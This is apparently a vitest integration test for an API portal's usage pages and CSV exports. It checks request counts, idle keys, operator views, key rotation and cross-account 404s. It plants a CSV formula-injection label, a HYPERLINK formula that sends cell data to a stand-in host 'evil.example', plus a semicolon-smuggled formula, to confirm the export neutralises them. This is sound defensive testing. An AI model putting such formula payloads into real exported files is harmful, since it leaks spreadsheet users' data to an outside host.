// The usage pages over real HTTP, against both stores (SQLite, a real PostgreSQL): a real API server counts known
// requests made with a partner's keys (200s, 404s, 429s) and hands them to the portal's database; the key's page,
// the account's page and their CSVs show exactly those figures; the dashboard shows each key's last use and marks an
// old unused key idle; the operator sees any account's, and the accounts busiest first. An attacker's view: another
// account's key ID is a 404 (page and CSV), the operator's pages are a 404 to a partner, and a key labelled as a
// formula gives no formula cell (the CSV read back by Python's csv module).
import { spawnSync } from "node:child_process";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { requireProgram } from "../../scripts/lib/test-programs.ts";
import { hashPassword } from "../../src/portal/passwords.ts";
import { createAccount, findAccountByEmail, updateAccount } from "../../src/portal/store/accounts.ts";
import { startUsage } from "../../src/usage/hand-over.ts";
import type { Usage } from "../../src/usage/hand-over.ts";
import { DAY_MS } from "../../src/usage/store.ts";
import { startTestApi, T0 } from "../helpers/fixture.ts";
import type { TestApi } from "../helpers/fixture.ts";
import { bothDatabases, withPostgresAndSmtp } from "./postgres-server.ts";
import type { PostgresServer } from "./postgres-server.ts";
import { PortalClient, signUpAndVerify, startTestPortal } from "./portal-client.ts";
import type { Page, TestPortal } from "./portal-client.ts";
import { tableRows as captionRows, usageTable } from "./usage-table.ts";
import type { SmtpServer } from "./smtp-server.ts";

const PYTHON = requireProgram("python3");
const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

const shownKey = (page: Page) => /id="new-key"[^>]*value="([A-Za-z0-9]{32})"/.exec(page.text)?.[1];
/** The IDs of the keys on the dashboard, from their usage links. */
const keyIds = (page: Page) => new Set([...page.text.matchAll(/href="\/keys\/([a-z0-9]+)\/usage"/g)].map((m) => m[1]!));

/** The usage page's figures table, by period. */
const tableRows = (page: Pick<Page, "text">) => usageTable(page.text);

/** The CSV as Python's csv module reads it (a reader spreadsheets' CSV import agrees with), split on `delimiter`. */
function parseCsv(text: string, delimiter = ","): string[][] {
  const program = `import csv,sys,json; print(json.dumps(list(csv.reader(sys.stdin, delimiter=${JSON.stringify(delimiter)}))))`;
  const read = spawnSync(PYTHON, ["-c", program], { input: text, encoding: "utf8" });
  if (read.status !== 0) throw new Error(`python3 csv: ${read.stderr}`);
  return JSON.parse(read.stdout) as string[][];
}

let postgres: PostgresServer;
let smtp: SmtpServer;
withPostgresAndSmtp((p, s) => ([postgres, smtp] = [p, s]));

const backends = bothDatabases(() => postgres);

describe.each(backends)("usage pages, stored in $name", ({ name, url }) => {
  let portal: TestPortal;
  let api: TestApi;
  let usage: Usage;
  let alice: PortalClient;
  let bob: PortalClient;
  let operator: PortalClient;
  const keys: Record<string, { key: string; id: string }> = {};
  /** Bytes the API sent for each key, and each key and endpoint, as read here (identity encoding: read is sent). */
  const sent: Record<string, number> = { shop: 0, hostile: 0, bob: 0 };
  const sentTo: Record<string, number> = {};
  const email = (who: string) => `${who}-${name.toLowerCase()}@example.test`;

  /** Makes a key labelled `label` for `client`'s account; its key and ID. */
  async function makeKey(client: PortalClient, label: string) {
    const before = keyIds(await client.get("/keys"));
    const page = await client.post("/keys", { name: label });
    expect(page.status).toBe(200);
    const key = shownKey(page)!;
    const [id, ...more] = [...keyIds(await client.get("/keys"))].filter((k) => !before.has(k));
    expect(key).toBeTruthy();
    expect(more).toEqual([]);
    return { key, id: id! };
  }
  /** Calls the API at `path` with `label`'s key; the status. */
  async function call(label: string, path: string, key = keys[label]!.key): Promise<number> {
    const res = await api.get(`${path}?apikey=${key}`, { headers: { "Accept-Encoding": "identity" } });
    const bytes = (await res.arrayBuffer()).byteLength;
    sent[label]! += bytes;
    const route = path.startsWith("/v1/products/") ? "product" : "sale_list";
    sentTo[`${label} ${route}`] = (sentTo[`${label} ${route}`] ?? 0) + bytes;
    return res.status;
  }

  beforeAll(async () => {
    const databaseUrl = await url();
    portal = await startTestPortal(smtp, { databaseUrl });
    portal.clock.now = T0 * 1000;
    [alice, bob, operator] = [0, 1, 2].map(() => new PortalClient(portal.url)) as [
      PortalClient,
      PortalClient,
      PortalClient,
    ];
    await signUpAndVerify(alice, smtp, { email: email("alice") });
    await signUpAndVerify(bob, smtp, { email: email("bob") });
    // Alice's keys get a burst of 3 (the account's limits, set by an operator), so that her 4th request is a 429.
    const a = (await findAccountByEmail(portal.db, email("alice")))!;
    await updateAccount(portal.db, a.id, { rate: 1, burst: 3 });
    keys.shop = await makeKey(alice, "shop");
    // A label from before labels were limited to a safe set of characters, as the database may still hold it.
    keys.hostile = await makeKey(alice, "hostile");
    await portal.db.run("UPDATE api_keys SET label = ? WHERE id = ?", [HOSTILE, keys.hostile.id]);
    // A key made 31 days ago and never used: idle.
    portal.clock.now = T0 * 1000 - 31 * DAY_MS;
    keys.old = await makeKey(alice, "old");
    portal.clock.now = T0 * 1000;
    keys.bob = await makeKey(bob, "bob");
    const made = await createAccount(
      portal.db,
      { email: email("operator"), partner: "Operations", password: await hashPassword("an operator password") },
      portal.clock.now,
    );
    await updateAccount(portal.db, made!.id, { role: "admin", verified: portal.clock.now });
    await operator.get("/sign-in");
    await operator.post("/sign-in", { email: email("operator"), password: "an operator password" });

    // The API server reads the portal's keys file and hands its counts to the portal's database when the test says.
    usage = startUsage({ databaseUrl, flushMs: 3_600_000, maxRows: 1000, figuresTtlMs: 0, now: () => T0 * 1000 });
    api = await startTestApi(undefined, { keysFile: portal.keysFile, usage });
    // The clock stands still (T0, 17:00 UTC), so Alice's bucket of 3 does not refill.
    const statuses = [
      await call("shop", "/v1/sales/active.json"),
      await call("shop", "/v1/products/999999/detail.json"),
      await call("shop", "/v1/sales/active.json"),
      await call("shop", "/v1/sales/active.json"),
      await call("shop", "/v1/sales/active.json"),
      await call("hostile", "/v1/sales/active.json"),
    ];
    for (let i = 0; i < 8; i++) statuses.push(await call("bob", "/v1/sales/active.json"));
    expect(statuses).toEqual([200, 404, 200, 429, 429, 200, ...Array<number>(8).fill(200)]);
    await usage.flush();
    expect(usage.stats()).toMatchObject({ rows: 0, failures: 0 });
  });
  afterAll(async () => {
    await usage?.close();
    await api?.close();
    await portal?.close();
  });

  it("shows a key's requests per hour, by status, in the table, the totals and the chart", async () => {
    const page = await alice.get(`/keys/${keys.shop!.id}/usage`);
    expect(page.status).toBe(200);
    expect(page.text).toContain("the key “shop”");
    const rows = tableRows(page);
    expect(rows.size).toBe(49); // 48 hours and the total
    expect(rows.get("2026-11-22 17:00")).toEqual([5, 2, 0, 1, 2, 0]);
    expect(rows.get("2026-11-22 16:00")).toEqual([0, 0, 0, 0, 0, 0]);
    expect([...rows.keys()].sort()[0]).toBe("2026-11-20 18:00");
    expect(rows.get("Total")).toEqual([5, 2, 0, 1, 2, 0]);
    // By endpoint: the sale list's 200s and 429s, the product's 404.
    expect(captionRows(page.text, "Requests by endpoint")).toEqual(
      new Map([
        ["Sale lists sale_list", [4, 2, 0, 0, 2, 0]],
        ["Products product", [1, 0, 0, 1, 0, 0]],
        ["All endpoints", [5, 2, 0, 1, 2, 0]],
      ]),
    );
    expect(page.text).toMatch(/<svg\s+role="img"\s+aria-labelledby="chart-title chart-desc"/);
    expect(page.text).toContain('Last used: <time datetime="2026-11-22T17:00:00.000Z">2026-11-22 17:00 UTC</time>');
    // Per day: the same requests, today.
    const days = tableRows(await alice.get(`/keys/${keys.shop!.id}/usage?span=30d`));
    expect(days.size).toBe(31);
    expect(days.get("2026-11-22")).toEqual([5, 2, 0, 1, 2, 0]);
    expect(tableRows(await alice.get(`/keys/${keys.shop!.id}/usage?span=90d`)).get("Total")).toEqual([
      5, 2, 0, 1, 2, 0,
    ]);
    expect((await alice.get(`/keys/${keys.shop!.id}/usage?span=7y`)).status).toBe(400);
  });

  it("gives the same figures as CSV: a header, a row per period, UTC times, bytes as sent", async () => {
    const res = await fetch(`${portal.url}/keys/${keys.shop!.id}/usage.csv?span=48h`, {
      headers: { cookie: [...alice.cookies].map(([k, v]) => `${k}=${v}`).join("; ") },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="usage-key-${keys.shop!.id}-48h.csv"`);
    expect(res.headers.get("cache-control")).toBe("no-store");
    const text = await res.text();
    expect(text.endsWith("\r\n")).toBe(true);
    const csv = parseCsv(text);
    expect(csv[0]).toEqual([
      "period_start",
      "key",
      "endpoint",
      "requests",
      "ok",
      "not_modified",
      "client_error",
      "limited",
      "server_error",
      "bytes",
    ]);
    // A row per period, key and endpoint that had requests.
    const product = ["shop", "product", "1", "0", "0", "1", "0", "0", String(sentTo["shop product"])];
    const sales = ["shop", "sale_list", "4", "2", "0", "0", "2", "0", String(sentTo["shop sale_list"])];
    expect(csv.slice(1)).toEqual([
      ["2026-11-22T17:00:00Z", ...product],
      ["2026-11-22T17:00:00Z", ...sales],
    ]);
    const days = parseCsv((await alice.get(`/keys/${keys.shop!.id}/usage.csv?span=90d`)).text);
    expect(days.slice(1)).toEqual([
      ["2026-11-22T00:00:00Z", ...product],
      ["2026-11-22T00:00:00Z", ...sales],
    ]);
  });

  it("adds up every key of the account on /usage, and shows them by key and by endpoint, as its CSV does", async () => {
    const page = await alice.get("/usage");
    expect(tableRows(page).get("2026-11-22 17:00")).toEqual([6, 3, 0, 1, 2, 0]);
    const byKey = [...captionRows(page.text, "Requests by key")];
    expect(byKey.map(([k, cells]) => [k.split(" ")[0], cells])).toEqual([
      ["shop", [5, 2, 0, 1, 2, 0]],
      [HOSTILE, [1, 1, 0, 0, 0, 0]],
      ["old", [0, 0, 0, 0, 0, 0]],
    ]);
    expect(byKey[0]![0]).toMatch(/^shop \w{4}…\w{4} last used 2026-11-22 17:00 UTC$/);
    expect(captionRows(page.text, "Requests by endpoint")).toEqual(
      new Map([
        ["Sale lists sale_list", [5, 3, 0, 0, 2, 0]],
        ["Products product", [1, 0, 0, 1, 0, 0]],
        ["All endpoints", [6, 3, 0, 1, 2, 0]],
      ]),
    );
    const csv = parseCsv((await alice.get("/usage.csv?span=30d")).text);
    const day = "2026-11-22T00:00:00Z";
    expect(csv.slice(1).sort((a, b) => a.join().localeCompare(b.join()))).toEqual(
      [
        [day, `'${HOSTILE}`, "sale_list", "1", "1", "0", "0", "0", "0", String(sentTo["hostile sale_list"])],
        [day, "shop", "product", "1", "0", "0", "1", "0", "0", String(sentTo["shop product"])],
        [day, "shop", "sale_list", "4", "2", "0", "0", "2", "0", String(sentTo["shop sale_list"])],
      ].sort((a, b) => a.join().localeCompare(b.join())),
    );
  });

  it("shows each key's last use on the dashboard, and marks an old key never used idle", async () => {
    const page = (await alice.get("/keys")).text;
    const item = (label: string) => new RegExp(`<h3>${label}</h3>[\\s\\S]*?</li>`).exec(page)?.[0] ?? "";
    expect(item("shop")).toMatch(
      /Last used<\/dt>\s*<dd><time datetime="2026-11-22T17:00:00.000Z">2026-11-22 17:00 UTC/,
    );
    expect(item("old")).toMatch(/Last used<\/dt>\s*<dd>never <strong class="idle">idle<\/strong>/);
    expect(item("shop")).not.toContain("idle");
    expect(page).toContain('href="/usage"');
  });

  it("puts no formula in the CSV, whatever the key's label, for a reader splitting on `,` or on `;`", async () => {
    const text = (await alice.get(`/keys/${keys.hostile!.id}/usage.csv`)).text;
    const csv = parseCsv(text);
    expect(csv.at(-1)!.slice(1, 5)).toEqual([`'${HOSTILE}`, "sale_list", "1", "1"]);
    for (const row of csv) for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@\t\r]/);
    // `x;=1+1;`: no cell starts with = for `,`, but a reader splitting on `;` (the usual one where `,` is the decimal
    // mark) found one (quotes do not stop it: a cell it starts after a `;` inside a quoted one is new to it).
    await portal.db.run("UPDATE api_keys SET label = ? WHERE id = ?", ["x;=1+1;", keys.hostile!.id]);
    try {
      const semicolons = (await alice.get(`/keys/${keys.hostile!.id}/usage.csv`)).text;
      expect(parseCsv(semicolons).at(-1)!.slice(1, 5)).toEqual(["x;'=1+1;", "sale_list", "1", "1"]);
      for (const delimiter of [",", ";"])
        for (const row of parseCsv(semicolons, delimiter))
          for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@\t\r]/);
    } finally {
      await portal.db.run("UPDATE api_keys SET label = ? WHERE id = ?", [HOSTILE, keys.hostile!.id]);
    }
  });

  it("answers another account's key with a 404, the operator pages with a 404, and no session with the sign-in", async () => {
    for (const path of [`/keys/${keys.shop!.id}/usage`, `/keys/${keys.shop!.id}/usage.csv`]) {
      const page = await bob.get(path);
      expect(page.status).toBe(404);
      expect(page.text).not.toContain("shop");
    }
    const a = (await findAccountByEmail(portal.db, email("alice")))!;
    for (const path of [`/admin/accounts/${a.id}/usage`, `/admin/accounts/${a.id}/keys/${keys.shop!.id}/usage.csv`])
      expect((await bob.get(path)).status).toBe(404);
    const anonymous = await fetch(`${portal.url}/usage.csv`, { redirect: "manual" });
    expect(anonymous.status).toBe(303);
    expect(anonymous.headers.get("location")).toBe("/sign-in");
  });

  it("lets the operator see any account's usage, and the accounts busiest first", async () => {
    const a = (await findAccountByEmail(portal.db, email("alice")))!;
    const rows = tableRows(await operator.get(`/admin/accounts/${a.id}/usage`));
    expect(rows.get("Total")).toEqual([6, 3, 0, 1, 2, 0]);
    const csv = parseCsv((await operator.get(`/admin/accounts/${a.id}/keys/${keys.shop!.id}/usage.csv`)).text);
    expect(csv.slice(1).map((r) => r.slice(1, 4))).toEqual([
      ["shop", "product", "1"],
      ["shop", "sale_list", "4"],
    ]);
    expect((await operator.get(`/admin/accounts/${a.id}/keys/${keys.bob!.id}/usage`)).status).toBe(404);
    const accountPage = (await operator.get(`/admin/accounts/${a.id}`)).text;
    expect(accountPage).toContain(`href="/admin/accounts/${a.id}/keys/${keys.shop!.id}/usage"`);

    const order = (text: string) =>
      [...text.matchAll(/href="\/admin\/accounts\/[a-z0-9]+">([^<]+)<\/a><\/h2>/g)].map((m) => m[1]);
    const requests = (text: string) =>
      [...text.matchAll(/href="\/admin\/accounts\/[a-z0-9]+\/usage">([\d,]+)<\/a>/g)].map((m) => Number(m[1]));
    const byEmail = (await operator.get("/admin/accounts")).text;
    expect(order(byEmail)).toEqual([email("alice"), email("bob"), email("operator")]);
    expect(requests(byEmail)).toEqual([6, 8, 0]);
    for (const span of ["24h", "30d"]) {
      const busiest = (await operator.get(`/admin/accounts?order=${span}`)).text;
      expect(order(busiest)).toEqual([email("bob"), email("alice"), email("operator")]);
      expect(requests(busiest)).toEqual([8, 6, 0]);
    }
  });

  it("shows the old key's last use apart from the new key's while a rotation's grace period runs", async () => {
    const page = async () => (await bob.get(`/keys/${keys.bob!.id}/usage`)).text;
    /** The rotation's figures on the key's page: each term to its text. */
    const rotation = async () => {
      const list = /<dl class="totals rotation">([\s\S]*?)<\/dl>/.exec(await page())?.[1] ?? "";
      const text = (s: string) =>
        s
          .replace(/<[^>]*>/g, "")
          .replace(/\s+/g, " ")
          .trim();
      return Object.fromEntries(
        [...list.matchAll(/<dt>([^<]*)<\/dt>\s*<dd>([\s\S]*?)<\/dd>/g)].map((m) => [m[1], text(m[2]!)]),
      );
    };
    const oldKey = keys.bob!.key;
    // Rotated at 17:01, the old key accepted for an hour; the API's clock at 17:02 from then on.
    portal.clock.now = T0 * 1000 + 60_000;
    const rotated = await bob.post(`/keys/${keys.bob!.id}/rotate`, { grace: "1h" });
    expect(rotated.status).toBe(200);
    const newKey = shownKey(rotated)!;
    expect(newKey).not.toBe(oldKey);
    await api.handler.reload();
    api.clock.now = T0 + 120;
    // Not used since: the old key's last use is the one before the rotation (the new key has made none).
    expect(await rotation()).toEqual({
      Replaced: "2026-11-22 17:01 UTC",
      "Old key accepted until": "2026-11-22 18:01 UTC",
      "Old key last used": "2026-11-22 17:00 UTC",
      "New key last used": "not yet",
    });
    expect(await call("bob", "/v1/sales/active.json", oldKey)).toBe(200);
    await usage.flush();
    expect(await rotation()).toMatchObject({
      "Old key last used": "2026-11-22 17:02 UTC",
      "New key last used": "not yet",
    });
    api.clock.now = T0 + 180;
    expect(await call("bob", "/v1/sales/active.json", newKey)).toBe(200);
    await usage.flush();
    expect(await rotation()).toMatchObject({
      "Old key last used": "2026-11-22 17:02 UTC",
      "New key last used": "2026-11-22 17:03 UTC",
    });
    // Both keys' requests are the key's; the account's page says when the old one was last used too.
    expect(tableRows({ text: await page() }).get("Total")).toEqual([10, 10, 0, 0, 0, 0]);
    const account = captionRows((await bob.get("/usage")).text, "Requests by key");
    expect([...account.keys()][0]).toMatch(
      /^bob \w{4}…\w{4} last used 2026-11-22 17:03 UTC old key \(accepted until 2026-11-22 18:01 UTC\) last used 2026-11-22 17:02 UTC$/,
    );
  });
});
